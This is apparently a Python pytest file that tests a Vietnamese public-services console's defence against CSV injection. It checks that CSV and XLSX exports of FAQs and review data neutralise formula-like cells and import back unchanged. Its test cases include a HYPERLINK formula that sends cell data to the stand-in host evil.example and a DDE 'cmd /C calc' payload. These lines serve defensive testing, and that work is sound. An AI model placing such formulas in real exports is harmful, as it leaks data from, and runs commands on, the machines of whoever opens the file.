"""Attack: text that looks like a spreadsheet formula (typed by an official, or by a citizen and
shown in a review export) runs when a colleague opens the export in Excel (CSV injection).

Defended: CSV cells get a leading apostrophe, XLSX cells are inline strings with Excel's quote
prefix, and importing our own export gives back exactly the text that was exported.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from dichvucong.db.models import Faq
from dichvucong.db.session import get_sessionmaker
from dichvucong.faqs.importer import import_faqs
from dichvucong.formula_guard import FORMULA_START, guard_cell, unguard_cell
from dichvucong.review.services.exports import csv_bytes
from tests.console.conftest import ConsoleClient

# (typed text, what a CSV cell must hold)
CASES = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'),
    ("+84 912 345 678 gọi ngay", "'+84 912 345 678 gọi ngay"),
    ("-2+3 ngày làm việc", "'-2+3 ngày làm việc"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=cmd|' /C calc'!A0", "'\t=cmd|' /C calc'!A0"),
    ("\r=1", "'\r=1"),
    ("'=đã có dấu nháy", "''=đã có dấu nháy"),
    ("'chỉ một dấu nháy", "''chỉ một dấu nháy"),
    ("Lệ phí 50.000 đồng", "Lệ phí 50.000 đồng"),
    ("1+1=2", "1+1=2"),
    ("", ""),
]
ROUND_TRIP = [text for text, _ in CASES if text.strip()]


@pytest.mark.parametrize(("text", "cell"), CASES)
def test_guard_and_unguard_table(text: str, cell: str) -> None:
    assert guard_cell(text) == cell
    assert unguard_cell(guard_cell(text)) == text
    assert not cell.startswith(FORMULA_START)


def test_foreign_text_with_an_apostrophe_is_kept() -> None:
    assert unguard_cell("'chào") == "'chào" and unguard_cell("bình thường") == "bình thường"


def _faqs_with_formulas(database_url: str, tmp_path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "formula.jsonl"
    lines = [
        {"id": f"formula-{n}", "question": f"{text} (câu hỏi {n})" if not text.startswith(("'", "=", "+", "-", "@")) else text + f" #{n}",
         "answer": text + f" — trả lời {n}", "tags": [text.replace("|", " ").strip()],
         "alt_questions": [text.replace("|", " ") + f" khác {n}"]}  # "|" separates list items in CSV
        for n, text in enumerate(ROUND_TRIP)
    ]
    path.write_text("\n".join(json.dumps(line, ensure_ascii=False) for line in lines) + "\n", encoding="utf-8")
    with get_sessionmaker(database_url)() as session:
        report = import_faqs(session, path)
        session.commit()
    assert report.created == len(ROUND_TRIP), report


def _texts(database_url: str) -> dict[str, tuple[str, str, list, list]]:
    with get_sessionmaker(database_url)() as session:
        faqs = session.scalars(select(Faq).where(Faq.external_id.like("formula-%")))
        return {f.external_id: (f.question, f.answer, list(f.tags), list(f.alt_questions)) for f in faqs}


def _import(client: ConsoleClient, name: str, content: bytes) -> str:
    client.get("/console/import")
    preview = client.post("/console/import/preview", files={"file": (name, content)})
    token = re.search(r'name="upload" value="([^"]+)"', preview.text)
    assert token, preview.text[:2000]
    done = client.post("/console/import/commit", {"upload": token.group(1)})
    assert done.status_code == 200, done.text[:2000]
    return done.text


def test_csv_export_is_inert_and_imports_back_to_the_same_text(editor: ConsoleClient, console_db: str, tmp_path) -> None:  # type: ignore[no-untyped-def]
    _faqs_with_formulas(console_db, tmp_path)
    before = _texts(console_db)
    exported = editor.get("/console/export/faqs.csv")
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
    assert all(not cell.startswith(FORMULA_START) for row in rows for cell in row)
    with get_sessionmaker(console_db)() as session:  # someone edits everything, then the export is re-imported
        for faq in session.scalars(select(Faq).where(Faq.external_id.like("formula-%"))):
            faq.question, faq.answer, faq.source_hash = "đã sửa", "đã sửa", ""
        session.commit()
    _import(editor, "faqs.csv", exported.content)
    assert _texts(console_db) == before


def test_xlsx_export_has_no_formulas_and_imports_back_to_the_same_text(editor: ConsoleClient, console_db: str, tmp_path) -> None:  # type: ignore[no-untyped-def]
    _faqs_with_formulas(console_db, tmp_path)
    before = _texts(console_db)
    exported = editor.get("/console/export/faqs.xlsx")
    with zipfile.ZipFile(io.BytesIO(exported.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    workbook = load_workbook(io.BytesIO(exported.content))  # formulas would load as formulas here
    cells = [c for row in workbook.active.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    guarded = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_START)]
    assert guarded and all(c.quotePrefix for c in guarded)
    with get_sessionmaker(console_db)() as session:
        for faq in session.scalars(select(Faq).where(Faq.external_id.like("formula-%"))):
            faq.question, faq.answer, faq.source_hash = "đã sửa", "đã sửa", ""
        session.commit()
    _import(editor, "faqs.xlsx", exported.content)
    assert _texts(console_db) == before  # (the old XLSX round trip emptied "=..." cells)


def test_procedure_export_is_inert(editor: ConsoleClient) -> None:
    rows = list(csv.reader(io.StringIO(editor.get("/console/export/procedures.csv").content.decode("utf-8-sig"))))
    assert len(rows) > 1 and all(not cell.startswith(FORMULA_START) for row in rows for cell in row)


def test_review_csv_exports_are_inert() -> None:
    body = csv_bytes(("Nội dung", "Ghi chú"), [[text, text] for text, _ in CASES])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == [cell for _, cell in CASES]
